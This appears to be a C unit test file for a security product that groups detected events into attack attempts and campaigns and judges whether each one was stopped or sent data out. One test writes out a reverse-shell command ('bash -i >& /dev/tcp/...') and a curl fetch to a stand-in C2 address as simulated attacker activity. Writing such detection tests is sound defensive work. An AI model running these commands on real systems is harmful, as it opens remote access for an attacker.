// SPDX-License-Identifier: Apache-2.0
#include "attempt/attempt_test.h"

#include <errno.h>

#define C2 "192.0.2.66"

static struct world *world;

static int setup(void **state)
{
    (void)state;
    world = calloc(1, sizeof *world);
    if (world)
        wsees_all(world, 1);
    return !world;
}

static int teardown(void **state)
{
    (void)state;
    arena_done(&world->arena);
    free(world);
    return 0;
}

static Tiercel__Batch *shell(uint64_t at, uint32_t root, const char *command)
{
    Tiercel__Batch *b = wbatch(world, 1, at);
    Tiercel__Event *e = wexec(world, b, wprocess(world, root, root, command), false);
    wdetect(world, b, e, "shell", "execution");
    return b;
}

static enum attempt_outcome only_outcome(void)
{
    struct attempts *a = wall(world);
    assert_int_equal(attempts_count(a), 1);
    enum attempt_outcome o = attempts_get(a, 0)->outcome;
    attempts_free(a);
    return o;
}

static void expect_count(size_t n)
{
    struct attempts *a = wall(world);
    assert_int_equal(attempts_count(a), n);
    attempts_free(a);
}

static void test_lineage_joins_and_a_shared_web_server_does_not(void **state)
{
    (void)state;
    Tiercel__Batch *b = shell(1, 100, "sh -c id");
    wdetect(world, b, wexec(world, b, wprocess(world, 101, 100, "id"), false), "id", "discovery");
    shell(2, 200, "sh -c id");
    struct attempts *a = wall(world);
    assert_int_equal(attempts_count(a), 2);
    assert_int_equal(attempts_get(a, 0)->n_detections, 2);
    assert_int_equal(attempts_get(a, 0)->reasons[0].kind, ATTEMPT_BY_LINEAGE);
    assert_string_equal(attempt_tactic(attempts_get(a, 0)->tried), "discovery");
    attempts_free(a);
}

static void test_service_process_itself_joins_nothing(void **state)
{
    (void)state;
    for (unsigned i = 0; i < 2; i++) {
        Tiercel__Batch *b = wbatch(world, 1, i);
        wdetect(world, b, wread(world, b, wprocess(world, 7, 0, "nginx"), "/srv/x"), "read",
                "collection");
        wdetect(world, b, b->events[0], "read too", "collection");
    }
    struct attempts *a = wall(world);
    assert_int_equal(attempts_count(a), 2);
    assert_int_equal(attempts_get(a, 0)->n_detections, 2);
    assert_int_equal(attempts_get(a, 0)->reasons[0].kind, ATTEMPT_BY_EVENT);
    attempts_free(a);
}

static void test_start_read_from_proc_is_the_same_process(void **state)
{
    (void)state;
    shell(1, 100, "sh");
    Tiercel__Batch *b = shell(2, 100, "sh");
    b->detections[0]->events[0]->process->lineage->root->start += 9999999;
    expect_count(1);
}

static void test_same_address_joins_on_one_host_only(void **state)
{
    (void)state;
    wsees_all(world, 2);
    wconnect(world, shell(1, 100, "sh -c a"), wprocess(world, 101, 100, "curl"), C2, 80);
    shell(50, 200, "bash -i >& /dev/tcp/" C2 "/4444"); // refused ones have nothing but this
    Tiercel__Batch *b = wbatch(world, 2, 3);
    wdetect(world, b, wexec(world, b, wprocess(world, 300, 300, "curl http://" C2 "/"), false),
            "fetch", "execution");
    struct attempts *a = wall(world);
    assert_int_equal(attempts_count(a), 2);
    assert_int_equal(attempts_get(a, 0)->n_nodes, 2);
    assert_int_equal(attempts_get(a, 0)->reasons[0].kind, ATTEMPT_BY_MEANS);
    assert_string_equal(attempts_get(a, 0)->reasons[0].text, C2);
    assert_true(attempts_get(a, 0)->campaign == attempts_get(a, 1)->campaign);
    attempts_free(a);
}

static void test_address_that_many_others_use_says_nothing(void **state)
{
    (void)state;
    wconnect(world, shell(1, 100, "sh"), wprocess(world, 101, 100, "curl"), C2, 80);
    wconnect(world, shell(2, 200, "sh"), wprocess(world, 201, 200, "curl"), C2, 80);
    for (unsigned i = 0; i < 2; i++)
        wconnect(world, wbatch(world, 1, 10 + i), wprocess(world, 500 + i, 500 + i, "apt"), C2, 80);
    expect_count(1);
    wconnect(world, wbatch(world, 1, 20), wprocess(world, 502, 502, "apt"), C2, 80);
    expect_count(2);
}

static void test_means_window_runs_from_last_use(void **state)
{
    (void)state;
    Tiercel__Process *p = wprocess(world, 101, 100, "curl");
    wconnect(world, shell(1, 100, "sh"), p, C2, 80);
    wconnect(world, shell(30 * 3600, 200, "sh"), wprocess(world, 201, 200, "curl"), C2, 80);
    expect_count(2);
    wconnect(world, wbatch(world, 1, 20 * 3600), p, C2, 80);
    expect_count(1);
}

static void test_dropped_file_joins_who_runs_it(void **state)
{
    (void)state;
    Tiercel__Batch *b = shell(1, 100, "sh -c a");
    Tiercel__Event *drop = wread(world, b, wprocess(world, 101, 100, "curl"), "/tmp/x");
    drop->file->action = TIERCEL__FILE_CHANGE__ACTION__CREATE;
    drop->file->protected_ = false;
    for (unsigned i = 0; i < 2; i++) {
        Tiercel__Batch *run = shell(2 + i, 200 + i, "/tmp/x");
        run->events[0]->process->image->path = wbytes(world, "/tmp/x");
    }
    expect_count(3); // nobody was seen to drop it: an application's own program
    drop->file->has_executable = drop->file->executable = true;
    expect_count(1);
}

static void test_return_after_a_quiet_day_is_a_new_attempt_of_the_campaign(void **state)
{
    (void)state;
    shell(1, 100, "sh");
    shell(2 + 24 * 3600, 100, "sh");
    shell(10 + 36 * 3600, 100, "sh");
    struct attempts *a = wall(world);
    assert_int_equal(attempts_count(a), 2);
    assert_int_equal(attempts_get(a, 0)->n_detections, 1);
    assert_true(attempts_get(a, 0)->id != attempts_get(a, 1)->id);
    assert_true(attempts_get(a, 1)->campaign == attempts_get(a, 0)->id);
    attempts_free(a);
}

static void test_connection_between_hosts_joins(void **state)
{
    (void)state;
    wsees_all(world, 2);
    wflow(world, shell(1, 100, "sh"), wprocess(world, 101, 100, "ssh"), true, "10.0.0.1",
          "10.0.0.2", 5);
    wflow(world, wbatch(world, 2, 2), wprocess(world, 22, 0, "sshd"), false, "10.0.0.2", "10.0.0.1",
          5);
    Tiercel__Batch *b = wbatch(world, 2, 3);
    wdetect(world, b, wexec(world, b, wprocess(world, 300, 300, "sh"), false), "x", "execution");
    b->detections[0]->events[0]->process->lineage->role = (char *)"ssh";
    expect_count(2); // it does not stand below the process that accepted
    b->detections[0]->n_tree = 1;
    b->detections[0]->tree = arena_zero(&world->arena, sizeof(void *));
    b->detections[0]->tree[0] = wprocess(world, 22, 0, "sshd");
    struct attempts *a = wall(world);
    assert_int_equal(attempts_count(a), 1);
    assert_int_equal(attempts_get(a, 0)->n_hosts, 2);
    assert_int_equal(attempts_get(a, 0)->reasons[0].kind, ATTEMPT_BY_CONNECTION);
    attempts_free(a);
}

// ---- outcome

static void test_outcome_refused_programs_are_stopped_before_execution(void **state)
{
    (void)state;
    Tiercel__Batch *b = wbatch(world, 1, 1);
    wdetect(world, b, wexec(world, b, wprocess(world, 100, 100, "sh"), true), "x", "exfiltration");
    wverdict(world, b, TIERCEL__ACTION__ACTION_DENY, true);
    struct attempts *a = wall(world);
    const struct attempt *one = attempts_get(a, 0);
    assert_int_equal(one->outcome, ATTEMPT_STOPPED_BEFORE);
    assert_string_equal(attempt_tactic(one->tried), "exfiltration");
    assert_string_equal(attempt_tactic(one->reached), "none");
    attempts_free(a);
}

static void test_outcome_killed_after_it_began_and_gone_on_is_not_stopped(void **state)
{
    (void)state;
    Tiercel__Batch *b = shell(1, 100, "sh");
    wverdict(world, b, TIERCEL__ACTION__ACTION_KILL, false);
    assert_int_equal(only_outcome(), ATTEMPT_STOPPED_AFTER);
    wexec(world, wbatch(world, 1, 2), wprocess(world, 101, 100, "id"), false);
    assert_int_equal(only_outcome(), ATTEMPT_NOT_STOPPED);
}

static void test_outcome_read_and_left(void **state)
{
    (void)state;
    Tiercel__Batch *b = shell(1, 100, "sh");
    Tiercel__Process *cat = wprocess(world, 101, 100, "cat");
    Tiercel__Event *flow = wflow(world, b, cat, true, "10.0.0.1", C2, 90);
    assert_int_equal(only_outcome(), ATTEMPT_NOT_STOPPED); // a request
    Tiercel__Event *read = wread(world, b, cat, "/srv/formula");
    assert_int_equal(only_outcome(), ATTEMPT_READ); // sent before it
    read->time = flow->time - 1;
    assert_int_equal(only_outcome(), ATTEMPT_LEFT);
    read->file->has_denied = read->file->denied = true;
    assert_int_equal(only_outcome(), ATTEMPT_NOT_STOPPED);
    flow->flow->sent = 1025;
    assert_int_equal(only_outcome(), ATTEMPT_LEFT);
    flow->flow->remote = waddress(world, "127.0.0.1", 80);
    assert_int_equal(only_outcome(), ATTEMPT_NOT_STOPPED);
}

static void test_bytes_are_those_of_its_own_processes(void **state)
{
    (void)state;
    Tiercel__Batch *b = shell(1, 100, "sh");
    Tiercel__Event *flow =
        wflow(world, b, wprocess(world, 7, 0, "nginx"), false, "10.0.0.1", C2, 9000);
    Tiercel__FlowShare *shares[2];
    for (unsigned i = 0; i < 2; i++) {
        shares[i] = wnew(world, &tiercel__flow_share__descriptor);
        shares[i]->process = wid(world, i ? 100 : 7);
        shares[i]->sent = i ? 2000 : 7000;
    }
    flow->flow->n_shares = 2;
    flow->flow->shares = shares;
    struct attempts *a = wall(world);
    assert_int_equal(attempts_get(a, 0)->sent, 2000);
    attempts_free(a);
}

static void test_outcome_is_unknown_where_not_all_was_seen(void **state)
{
    (void)state;
    shell(100, 100, "sh");
    assert_int_equal(only_outcome(), ATTEMPT_NOT_STOPPED);
    wlost(world, 1, 300, "flow", 3); // later
    wlost(world, 2, 100, "flow", 3); // elsewhere
    wlost(world, 1, 100, "dns", 3);  // does not matter
    assert_int_equal(only_outcome(), ATTEMPT_NOT_STOPPED);
    wlost(world, 1, 100, "flow", 3);
    struct attempts *a = wall(world);
    assert_int_equal(attempts_get(a, 0)->outcome, ATTEMPT_UNKNOWN);
    assert_string_equal(attempts_get(a, 0)->blind,
                        "not all was seen of: bytes sent (3 records lost)");
    attempts_free(a);
}

static void test_outcome_is_unknown_without_flow_coverage(void **state)
{
    (void)state;
    Tiercel__Batch *b = shell(100, 100, "sh");
    wcoverage(world, b, "exec", "tracepoints");
    wcoverage(world, b, "file", "fentry");
    wcoverage(world, b, "flow", "");
    assert_int_equal(only_outcome(), ATTEMPT_UNKNOWN);
    wread(world, b, wprocess(world, 100, 100, "sh"), "/srv/x"); // what is proven stays proven
    assert_int_equal(only_outcome(), ATTEMPT_READ);
}

static void test_outcome_is_unknown_without_any_coverage(void **state)
{
    (void)state;
    Tiercel__Batch *b = wbatch(world, 9, 1);
    wdetect(world, b, wexec(world, b, wprocess(world, 1, 1, "sh"), true), "x", "execution");
    wverdict(world, b, TIERCEL__ACTION__ACTION_DENY, true);
    assert_int_equal(only_outcome(), ATTEMPT_UNKNOWN);
}

// ---- by hand

static void changed(struct attempt_change *c, uint64_t x, uint64_t y, bool split, struct buf *out)
{
    *c = (struct attempt_change){.split = split, .time = T0, .names = {x, y}, .n_names = 2};
    snprintf(c->who, sizeof c->who, "anna");
    snprintf(c->why, sizeof c->why, "the \"proxy\" log");
    attempt_change_print(c, out);
}

static void test_merge_and_split_by_hand_keep_their_history(void **state)
{
    (void)state;
    struct attempt_change c;
    struct buf lines = {0};
    shell(1, 100, "sh");
    shell(2, 200, "sh");
    struct attempts *a = wall(world);
    uint64_t x = attempts_get(a, 0)->id, y = attempts_get(a, 1)->id;
    attempts_free(a);
    changed(&c, x, y, false, &lines);
    buf_add_char(&lines, 0);
    a = wread_all(world, NULL, world->n, lines.p);
    assert_int_equal(attempts_count(a), 1);
    assert_true(attempts_get(a, 0)->id == x);
    assert_int_equal(attempts_get(a, 0)->reasons[0].kind, ATTEMPT_BY_HAND);
    assert_string_equal(attempts_get(a, 0)->reasons[0].text, "anna: the \"proxy\" log");
    size_t found;
    char id[ATTEMPT_ID_DIGITS + 1];
    attempt_id_words(y, id);
    assert_int_equal(attempts_find(a, str_from(id), &found, NULL),
                     0); // its old id still leads to it
    assert_int_equal(found, 0);
    attempts_free(a);
    lines.n--;
    changed(&c, x, y, true, &lines);
    buf_add_char(&lines, 0);
    a = wread_all(world, NULL, world->n, lines.p);
    assert_int_equal(attempts_count(a), 2);
    assert_true(attempt_touched(a, attempts_get(a, 1), attempts_change(a, 0)));
    assert_true(attempt_touched(a, attempts_get(a, 1), attempts_change(a, 1)));
    attempts_free(a);
    buf_done(&lines);
}

static void test_damaged_change_is_an_error_with_its_line(void **state)
{
    (void)state;
    static const char *const bad[] = {"\n{}", "\n[1]", "\n{\"time\":\"2026-11-23T16:00:00Z\"",
                                      "\nx"};
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        struct attempts *a;
        struct error e = {0};
        assert_int_equal(attempts_new(0, &a), 0);
        assert_int_equal(attempts_changes(a, str_from(bad[i]), &e), -EBADMSG);
        assert_int_equal(e.line, 2);
        attempts_free(a);
    }
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(test_lineage_joins_and_a_shared_web_server_does_not),
        TEST(test_service_process_itself_joins_nothing),
        TEST(test_start_read_from_proc_is_the_same_process),
        TEST(test_same_address_joins_on_one_host_only),
        TEST(test_address_that_many_others_use_says_nothing),
        TEST(test_means_window_runs_from_last_use),
        TEST(test_dropped_file_joins_who_runs_it),
        TEST(test_return_after_a_quiet_day_is_a_new_attempt_of_the_campaign),
        TEST(test_connection_between_hosts_joins),
        TEST(test_outcome_refused_programs_are_stopped_before_execution),
        TEST(test_outcome_killed_after_it_began_and_gone_on_is_not_stopped),
        TEST(test_outcome_read_and_left),
        TEST(test_bytes_are_those_of_its_own_processes),
        TEST(test_outcome_is_unknown_where_not_all_was_seen),
        TEST(test_outcome_is_unknown_without_flow_coverage),
        TEST(test_outcome_is_unknown_without_any_coverage),
        TEST(test_merge_and_split_by_hand_keep_their_history),
        TEST(test_damaged_change_is_an_error_with_its_line),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
